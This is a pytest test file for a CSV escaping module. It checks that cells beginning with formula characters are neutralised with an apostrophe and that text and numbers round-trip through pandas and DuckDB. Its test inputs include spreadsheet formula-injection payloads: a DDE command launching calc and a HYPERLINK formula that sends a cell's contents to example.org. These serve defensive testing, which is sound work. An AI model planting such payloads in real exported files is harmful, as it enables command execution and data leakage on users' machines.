"""CSV: no text of an article runs as a formula, every text comes back, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pingan_analysis.csv_files import csv_text, escape, plain_cells, plain_column, unescape
from pingan_analysis.drawing.figure_files import to_csv

SIGNS = "=+-@\t\r\n＝＋－＠"
UNSEEN = " \ufeff\u3000\u200b\xa0\x00\x1f\u2028\u180e"
NEAR_FORMULAS = st.text(st.sampled_from(f"'{SIGNS}{UNSEEN}a平1\"")) | st.text()
STORABLE = st.text(st.sampled_from(f"'{SIGNS}{UNSEEN.replace(chr(0), '')}a平1\",")) | st.text(
    st.characters(codec="utf-8", exclude_characters="\0")
)


def unix(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


@given(NEAR_FORMULAS)
def test_every_text_comes_back(text: str) -> None:
    assert unescape(escape(text)) == text


@given(NEAR_FORMULAS, NEAR_FORMULAS)
def test_different_texts_stay_different(a: str, b: str) -> None:
    assert (escape(a) == escape(b)) == (a == b)


@given(NEAR_FORMULAS)
def test_no_written_text_begins_as_a_formula(text: str) -> None:
    assert not escape(text).lstrip(UNSEEN).startswith(tuple(SIGNS))


@pytest.mark.parametrize("text", ["平安建设", "'平安'", "3-5人", "a=1", "", "'", "'' ", "1,000", "…=1", "−3", "'a=1"])
def test_other_texts_stand_as_they_are(text: str) -> None:
    assert escape(text) == unescape(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠A1", "\ufeff=1", " \u3000-1",
        "=HYPERLINK(\"http://example.org/?\"&A1,\"平安\")", "=cmd|'/C calc'!A0", "'=1", "''\ufeff@1",
    ],
)
def test_formulas_get_one_apostrophe_and_lose_it_again(text: str) -> None:
    assert escape(text) == f"'{text}"
    assert unescape(f"'{text}") == text


@settings(max_examples=40)
@given(st.lists(STORABLE, min_size=1, max_size=8))
@example(["=1", "'=1", "''=1", "\ufeff=1", "平安", "\r"])
def test_files_give_back_the_texts_to_pandas_and_to_duckdb(cells: list[str]) -> None:
    table = pd.DataFrame({"text": cells, "n": -1.5})
    for column in (table, table.astype({"text": "object"}), table.astype({"text": "category"})):
        written = csv_text(column)
        assert "\r" not in written
        read = pd.read_csv(io.StringIO(written, newline=""), keep_default_na=False, dtype={"text": "str"})
        assert plain_cells(read)["text"].tolist() == [unix(cell) for cell in cells]
        assert plain_cells(read.astype({"text": "object"}))["text"].tolist() == [unix(cell) for cell in cells]
        assert read["n"].tolist() == [-1.5] * len(cells)
        assert not any(cell.lstrip(UNSEEN).startswith(tuple(SIGNS)) for cell in read["text"])
    rows = duckdb.from_df(read)
    of_sql = rows.project(plain_column("text").alias("text")).fetchall()
    assert of_sql == [(unix(cell),) for cell in cells]


def test_duckdb_keeps_missing_texts() -> None:
    rows = duckdb.sql("SELECT CAST(NULL AS VARCHAR) AS text UNION ALL SELECT 'a' || chr(10) || '''=1'")
    assert rows.project(plain_column("text")).fetchall() == [(None,), ("a\n'=1",)]


def test_numbers_days_and_truth_values_are_no_text() -> None:
    table = pd.DataFrame(
        {
            "=name": ["-5", None], "n": pd.array([-1, None], dtype="Int64"), "x": [-0.1, float("-inf")],
            "day": pd.to_datetime(["2024-09-02", None]), "ok": [True, False], "mixed": [-3, "-3"],
        }
    )
    written = csv_text(table)
    assert written == "'=name,n,x,day,ok,mixed\n'-5,-1,-0.1,2024-09-02,True,-3\n,,-inf,,False,'-3\n"
    read = pd.read_csv(io.StringIO(written))
    assert plain_cells(read).columns.tolist() == ["=name", "n", "x", "day", "ok", "mixed"]
    assert table.columns[0] == "=name", "the table given is left as it is"
    assert table["=name"][0] == "-5"


def test_digits_are_significant_ones_and_no_text_is_rounded() -> None:
    table = pd.DataFrame({"x": [0.1 + 0.2, -1234567.0], "o": [1 / 3, "0.30000000000000004"]})
    assert csv_text(table, digits=3) == "x,o\n0.3,0.333\n-1.23e+06,0.30000000000000004\n"
    assert csv_text(table).splitlines()[1] == "0.30000000000000004,0.3333333333333333"


def test_halves_of_characters_do_not_stop_the_writing() -> None:
    table = pd.Series(["平\ud800安", "=\udfff"], dtype="object").to_frame()
    table.columns = pd.Index(["\udfffn"], dtype="object")
    assert list(csv.reader(io.StringIO(to_csv(table).decode()))) == [["\ufffdn"], ["平\ufffd安"], ["'=\ufffd"]]


def test_twelve_digits_and_formulas_of_figures() -> None:
    table = pd.DataFrame({"term": ["=1+1", "@平安"], "x": [-0.1, 0.30000000000000004]})
    assert to_csv(table).decode() == "term,x\n'=1+1,-0.1\n'@平安,0.3\n"


def test_committed_tables_have_no_cell_that_escaping_would_change() -> None:
    """They were written before there was escaping; this is why they are the same."""
    folder = Path(__file__).parents[1]
    files = [*folder.glob("figures/*.csv"), *folder.glob("data/study/*.csv")]
    assert len(files) > 10
    for file in files:
        with file.open(encoding="utf-8", newline="") as lines:
            assert [cell for row in csv.reader(lines) for cell in row if unescape(cell) != cell] == [], file
